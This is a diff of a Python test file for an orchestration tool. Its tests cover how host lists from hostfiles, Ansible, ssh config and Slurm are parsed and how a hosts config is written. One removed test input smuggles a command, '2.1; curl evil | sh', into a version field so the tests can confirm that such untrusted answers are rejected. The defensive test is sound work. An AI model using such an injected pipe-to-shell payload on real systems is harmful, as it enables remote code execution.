@@ -1,35 +1,21 @@
-"""Lists of hosts that other tools keep, and what is made of machines that were looked at."""
+"""Lists of hosts that people have, and what `init` makes of machines that were looked at."""
 
 from __future__ import annotations
 
-import dataclasses
 import json
 import os
 import threading
-import time
-from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
 
 from orchestrator import config
+from orchestrator.cli import init
 from orchestrator.cli.desk import choosing
+from orchestrator.cli.desk.choosing import Candidate
 from orchestrator.config.mistakes import Wrong
 from orchestrator.errors import UsageError
-from orchestrator.hostlists import lists, write
-from orchestrator.hostlists.lists import Candidate
-from orchestrator.hostlists.machine import (
-    Machine,
-    Pythons,
-    Room,
-    TensorFlowPython,
-    choose_addresses,
-    choose_pythons,
-    choose_workdir,
-)
-from orchestrator.phases import survey
-
-GB = 10**9
+from orchestrator.phases.survey import Machine, TensorFlowPython, choose_addresses, choose_python, pythons_of
 
 
 @pytest.mark.parametrize(
@@ -46,12 +32,12 @@ GB = 10**9
     ],
 )
 def test_hostfiles(text: str, hosts: list[tuple[str, str, int]]) -> None:
-    assert [(one.name, one.ssh, one.tasks) for one in lists.of_hostfile(text)] == hosts
+    assert [(one.name, one.ssh, one.tasks) for one in choosing.of_hostfile(text)] == hosts
 
 
 def test_a_line_that_is_none_of_a_hostfile() -> None:
     with pytest.raises(ValueError, match="line 2 is not `host slots=4`: gpu 02"):
-        lists.of_hostfile("gpu-01\ngpu 02\n")
+        choosing.of_hostfile("gpu-01\ngpu 02\n")
 
 
 LISTED = {
@@ -70,7 +56,7 @@ LISTED = {
 
 
 def test_what_ansible_prints() -> None:
-    first, second, here = lists.of_ansible(json.dumps(LISTED))
+    first, second, here = choosing.of_ansible(json.dumps(LISTED))
     assert (first.name, first.ssh, sorted(first.groups)) == (
         "gpu-01",
         "me@10.0.0.1:2200",
@@ -88,20 +74,20 @@ def test_an_inventory_of_ansible_is_read_by_ansible(
     (tmp_path / "my hosts").write_text(text)
     monkeypatch.setenv("PATH", str(tmp_path))
     with pytest.raises(UsageError, match="Ansible is not installed here"):
-        lists.read(tmp_path / "my hosts")
+        choosing.read(tmp_path / "my hosts")
     program = tmp_path / "ansible-inventory"
     program.write_text(
         f"#!/bin/sh\n[ \"$2$3\" = '{tmp_path}/my hosts--list' ] && echo '{json.dumps(LISTED)}'\n"
     )
     program.chmod(0o755)
-    assert [one.name for one in lists.read(tmp_path / "my hosts")] == ["gpu-01", "gpu-02", "here"]
+    assert [one.name for one in choosing.read(tmp_path / "my hosts")] == ["gpu-01", "gpu-02", "here"]
     chosen = choosing.choose(["gpu-02", "ungrouped"], str(tmp_path / "my hosts"), None, None, yes=False)
     assert [one.name for one in chosen] == ["gpu-02", "here"]
     with pytest.raises(UsageError, match="tpu is not in"):
         choosing.choose(["tpu"], str(tmp_path / "my hosts"), None, None, yes=False)
     program.write_text("#!/bin/sh\necho 'no such plugin' >&2; exit 1\n")
     with pytest.raises(UsageError) as caught:
-        lists.read(tmp_path / "my hosts")
+        choosing.read(tmp_path / "my hosts")
     assert caught.value.why == "no such plugin"
 
 
@@ -120,7 +106,7 @@ def test_an_inventory_of_ansible_is_read_by_ansible(
 def test_a_file_that_is_no_list_of_hosts(text: str, tmp_path: Path) -> None:
     (tmp_path / "hosts").write_text(text)
     with pytest.raises(UsageError, match=r"cannot read|names no host"):
-        lists.read(tmp_path / "hosts")
+        choosing.read(tmp_path / "hosts")
 
 
 def test_names_of_ssh_config(tmp_path: Path) -> None:
@@ -130,31 +116,8 @@ def test_names_of_ssh_config(tmp_path: Path) -> None:
         f"# hosts\nHost gpu-01 gpu-0? !gpu-09\n  HostName 10.0.0.1\nHost=gpu-02 gpu-01\n"
         f"Include {tmp_path}/more/* {tmp_path}/config {tmp_path}/none\nHost *\n  User me\nMatch host x\n"
     )
-    assert lists.aliases(tmp_path / "config") == ("gpu-01", "gpu-02", "gpu-03", "gpu-04")
-    assert lists.aliases(tmp_path / "none") == ()
-
-
-def test_doors_and_forges_of_ssh_config_do_not_train(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.delenv(choosing.SLURM, raising=False)
-    config_file = tmp_path / "config"
-    config_file.write_text(
-        "Host door\n  HostName 192.0.2.1\nHost gpu-01\n  HostName 192.0.2.2\n  ProxyJump door\n"
-        "Host code\n  HostName github.com\nHost repo\n  HostName 192.0.2.3\n  User git\n"
-    )
-    assert [one.name for one in choosing.choose([], None, str(config_file), None, yes=True)] == ["gpu-01"]
-
-
-def test_a_name_of_ssh_config_that_no_hosts_toml_can_have_is_left_out(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
-) -> None:
-    monkeypatch.delenv(choosing.SLURM, raising=False)
-    config_file = tmp_path / "config"
-    config_file.write_text('Host "two words" gpu-01 g\u00fcn\n  HostName 192.0.2.2\n')
-    assert [one.name for one in choosing.choose([], None, str(config_file), None, yes=True)] == ["gpu-01"]
-    said = capsys.readouterr().err
-    assert "left out" in said
-    assert "two words" in said
-    assert "g\u00fcn" in said
+    assert choosing.aliases(tmp_path / "config") == ("gpu-01", "gpu-02", "gpu-03", "gpu-04")
+    assert choosing.aliases(tmp_path / "none") == ()
 
 
 @pytest.mark.parametrize("words", [[" "], [","], [""]])
@@ -166,10 +129,10 @@ def test_words_without_a_host(words: list[str]) -> None:
 def test_a_list_from_windows_begins_with_a_mark(tmp_path: Path) -> None:
     listed = tmp_path / "hosts"
     listed.write_bytes(b"\xef\xbb\xbfgpu-01\r\ngpu-02\r\n")
-    assert [one.name for one in lists.read(listed)] == ["gpu-01", "gpu-02"]
+    assert [one.name for one in choosing.read(listed)] == ["gpu-01", "gpu-02"]
     listed.write_bytes("gpu-01\n".encode("utf-16"))
     with pytest.raises(UsageError) as caught:
-        lists.read(listed)
+        choosing.read(listed)
     assert caught.value.why == "it is not text in UTF-8"
 
 
@@ -178,21 +141,14 @@ def test_a_list_may_come_through_a_pipe(tmp_path: Path) -> None:
     os.mkfifo(pipe)
     writer = threading.Thread(target=pipe.write_text, args=("gpu-01 slots=2\n",))
     writer.start()
-    assert [(one.name, one.tasks) for one in lists.read(pipe)] == [("gpu-01", 2)]
+    assert [(one.name, one.tasks) for one in choosing.read(pipe)] == [("gpu-01", 2)]
     writer.join()
 
 
 def test_a_host_is_written_only_under_a_name_that_is_read_again() -> None:
     with pytest.raises(Wrong, match="letters, digits"):
-        choosing.host(Candidate("g\u00fcn", "10.0.0.1"), None)
-    assert choosing.hostname(choosing.host(Candidate("gpu-01.", "gpu-01."), "/dev/null")) == "gpu-01"
-
-
-def test_the_key_that_an_inventory_names_is_written() -> None:
-    host = choosing.host(Candidate("a", "a", identity="~/.ssh/my key"), None)
-    entry = write.HostEntry("a", "a", "10.0.0.1", 2222, identity=host.identity or "")
-    whole = write.Whole(Pythons(), None, None, looked=False)
-    assert config.parse(write.text([entry], whole)).hosts[0].identity == "~/.ssh/my key"
+        choosing.host_of(Candidate("g\u00fcn", "10.0.0.1"), None)
+    assert choosing.hostname(choosing.host_of(Candidate("gpu-01.", "gpu-01."), "/dev/null")) == "gpu-01"
 
 
 def test_the_hosts_of_a_slurm_job(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -250,7 +206,21 @@ def test_the_address_that_the_others_reach(machines: dict[str, Machine], address
     assert choose_addresses(machines) == addresses
 
 
-def test_one_python_for_all_or_one_for_each_or_none() -> None:
+def test_doors_forges_and_names_that_hosts_toml_cannot_have_do_not_train(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.delenv(choosing.SLURM, raising=False)
+    config_file = tmp_path / "config"
+    config_file.write_text(
+        "Host door\n  HostName 192.0.2.1\nHost gpu-01\n  HostName 192.0.2.2\n  ProxyJump door\n"
+        "Host code\n  HostName github.com\nHost repo\n  HostName 192.0.2.3\n  User git\n"
+        'Host "two words"\n  HostName 192.0.2.4\n'
+    )
+    assert [one.name for one in choosing.choose([], None, str(config_file), None, yes=True)] == ["gpu-01"]
+    assert "two words" in capsys.readouterr().err
+
+
+def test_the_first_python_that_all_have() -> None:
     old, new, own = (
         TensorFlowPython("/opt/a", "2.16"),
         TensorFlowPython("/opt/b", "2.17"),
@@ -260,106 +230,75 @@ def test_one_python_for_all_or_one_for_each_or_none() -> None:
     def having(*pythons: TensorFlowPython) -> Machine:
         return Machine("h", "p", (), pythons=pythons)
 
-    assert choose_pythons([("a", having(old, new)), ("b", having(own, new))]) == Pythons(common=new)
-    assert choose_pythons([("a", having(new)), ("b", having(own))]) == Pythons(each={"a": new, "b": own})
-    assert choose_pythons([("a", having(new)), ("b", having())]) == Pythons()
-    assert choose_pythons([]) == Pythons()
+    assert choose_python([having(old, new), having(own, new)]) == new
+    assert choose_python([having(new), having(own)]) is None
+    assert choose_python([having(new), having()]) is None
+    assert choose_python([]) is None
 
 
-def test_a_workdir_with_room() -> None:
-    full, roomy = (
-        Machine("h", "p", (), rooms=(Room("~", GB), Room("/scratch", 900 * GB), Room("/data", 50 * GB))),
-        Machine("h", "p", (), rooms=(Room("~", 500 * GB), Room("/scratch", 100 * GB))),
-    )
-    assert choose_workdir([full, roomy]) == Room("/scratch", 100 * GB)
-    assert choose_workdir([roomy, roomy]) is None
-    assert choose_workdir([Machine("h", "p", (), rooms=(Room("~", GB),))]) is None
+def written(*candidates: Candidate, note: str = "", task_port: int = 2222, **machines: Machine) -> str:
+    """Write the file of these candidates; a machine is given under its host's name."""
+    hosts = [choosing.host_of(one, "/dev/null") for one in candidates]
+    notes = {one.name: note for one in candidates if note}
+    return init.text(candidates, hosts, machines, notes, task_port=task_port, ssh_config="/etc/my config")
 
 
 def test_what_is_written_is_read_as_it_was_meant() -> None:
-    entries = [
-        write.HostEntry("gpu-01", "gpu-01", "10.0.0.1", 2222, tasks=2, gpus=("A\x1b[2J", "A\x1b[2J")),
-        write.HostEntry(
-            "gpu-02", "me@gpu-02:2200", "10.0.0.2", 2300, python="~/größe/python", note="x\ny = 1"
-        ),
-    ]
-    text = write.text(
-        entries, write.Whole(Pythons(), Room("/scratch", 100 * GB), "/etc/my config", looked=True)
+    gpus = Machine(
+        "10.0.0.1", "a", ("10.0.0.1",), ("A\x1b[2J",) * 2, (TensorFlowPython("~/größe/py", "2.17"),)
+    )
+    other = Machine("10.0.0.2", "b", ("10.0.0.2",), (), gpus.pythons)
+    text = written(
+        Candidate("one", "10.0.0.1", tasks=2, identity="~/.ssh/my key"),
+        Candidate("two", "me@10.0.0.2:2200"),
+        note="x\ny = 1",
+        task_port=2300,
+        one=gpus,
+        two=other,
     )
     first, second = config.parse(text).hosts
-    assert (first.name, first.ssh, first.address, first.tasks) == ("gpu-01", "gpu-01", "10.0.0.1", 2)
-    assert (second.ssh, second.user, second.port, second.task_port) == ("gpu-02", "me", 2200, 2300)
-    assert (first.workdir, second.python) == ("/scratch/orchestrate", "~/größe/python")
-    assert "devices = [0, 1]" in text
+    assert (first.name, first.ssh, first.address, first.tasks) == ("one", "10.0.0.1", "10.0.0.1", 2)
+    assert (second.ssh, second.user, second.port, second.task_port) == ("10.0.0.2", "me", 2200, 2300)
+    assert (first.identity, second.python, first.ssh_config) == (
+        "~/.ssh/my key",
+        "~/größe/py",
+        "/etc/my config",
+    )
+    assert "# devices = [0, 1]" in text
     assert "\x1b" not in text
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        b"",
-        b"login banner\n",
-        b"\xff\xfe",
-        b'{"pythons": 3, "rooms": []}',
-        b'{"pythons": [{"path": "a\\u001b[2J", "tensorflow": "2"}], "rooms": [{"path": "~", "free": -1}]}',
-        b'{"pythons": [{"path": "a", "tensorflow": "2\\n[job]"}], "rooms": []}',
-        b"[" * 100_000,
-    ],
-)
-def test_what_a_stranger_says_of_a_machine_is_left_out(data: bytes) -> None:
-    answer = survey._read(data)
-    assert (answer.pythons, answer.rooms) == ((), ())
+def test_entries_for_one_machine_get_ports_and_folders_of_their_own() -> None:
+    machine = Machine("127.0.0.1", "a", ())
+    first, second = config.parse(
+        written(Candidate("a", "local", tasks=3), Candidate("b", "local"), a=machine, b=machine)
+    ).hosts
+    assert (first.task_port, second.task_port) == (2222, 2225)
+    assert (first.state, second.state) == (None, "/var/tmp/orchestrate-b")
 
 
 def test_where_an_environment_is_made_gpus_are_named() -> None:
     """[env] takes TensorFlow's build for GPUs only where hosts name theirs."""
-    entry = write.HostEntry("a", "a", "10.0.0.1", 2222, gpus=("A100", "A100"))
-    whole = write.Whole(Pythons(), None, None, looked=True)
-    made = config.parse(write.text([entry], whole))
+    made = config.parse(written(Candidate("a", "10.0.0.1"), a=Machine("10.0.0.1", "a", (), ("A100",) * 2)))
     assert made.hosts[0].devices == ("0", "1")
     assert made.environment is not None
     assert any("and-cuda" in package for package in made.environment.packages)
-    uneven = dataclasses.replace(entry, tasks=3)
-    assert config.parse(write.text([uneven], whole)).hosts[0].devices is None
-    own = dataclasses.replace(whole, pythons=Pythons(common=TensorFlowPython("~/a/bin/python", "2.21.0")))
-    assert config.parse(write.text([entry], own)).hosts[0].devices is None
-
-
-def test_candidates_are_logged_in_to_as_they_say() -> None:
-    host = choosing.host(Candidate("a", "me@10.0.0.1:2200"), None)
-    assert (host.name, host.ssh, host.user, host.port) == ("a", "10.0.0.1", "me", 2200)
-
-
-def _told(pythons: Sequence[tuple[str, str]] = (), rooms: Sequence[str] = (), free: str = "1") -> str:
-    """An answer of a host; words go into its JSON as they are."""
-    found = ", ".join(f'{{"path": "{path}", "tensorflow": "{version}"}}' for path, version in pythons)
-    room = ", ".join(f'{{"path": "{path}", "free": {free}}}' for path in rooms)
-    return f'{{"pythons": [{found}], "rooms": [{room}]}}'
 
 
 @pytest.mark.parametrize(
     "answer",
     [
-        "[" * 100_000,
-        '{"pythons": [], "rooms": [], "x": ' + "[" * 100_000,
-        _told(rooms=["~"], free="1" + "0" * 4000),
-        _told(rooms=["~"], free="-1"),
-        _told(rooms=["x", "~x/..", "/etc", "/a/../..", "/" + "x" * 2000, "/a\\n", "/\\u202e"]),
-        _told([("-c", "2.1"), ("x y", "2.1"), ("../x", "2.1"), ("/x/", "2.1"), ("", "2.1")]),
-        _told([("/x", "2.1; curl evil | sh"), ("/x", ""), ("/x", "2" * 100)]),
-        _told([("/x\\u202e", "2"), ("\\u007f", "2"), ("/x\\ud800", "2"), ("/x\\u0000", "2")]),
+        "login banner",
+        "2.1 -c",
+        "2.1 x y",
+        "2.1 ../x",
+        "2.1 /x/",
+        "2.1 ",
+        "2.1; /x",
+        "2" * 100 + " /x",
+        "2 /x\u202e",
+        "2 /" + "x" * 2000,
     ],
 )
 def test_what_hosts_toml_may_not_say_is_not_believed(answer: str) -> None:
-    assert survey._read(answer.encode()) == survey._Answer((), ())
-
-
-def test_ten_thousand_addresses_of_each_are_compared_at_once() -> None:
-    many = [f"10.{n >> 8}.{n & 255}.7" for n in range(10_000)]
-    machines = {
-        "a": Machine("a", "1", (*(f"11.{n >> 8}.{n & 255}.7" for n in range(9_999)), "192.168.7.1")),
-        "b": Machine("b", "2", (*many, "192.168.7.2")),
-    }
-    began = time.monotonic()
-    assert choose_addresses(machines) == {"a": "192.168.7.1", "b": "192.168.7.2"}
-    assert time.monotonic() - began < 30  # every one with every other: hours
+    assert list(pythons_of(f"{answer}\n2.21.0 /opt/a b")) == [TensorFlowPython("/opt/a b", "2.21.0")]
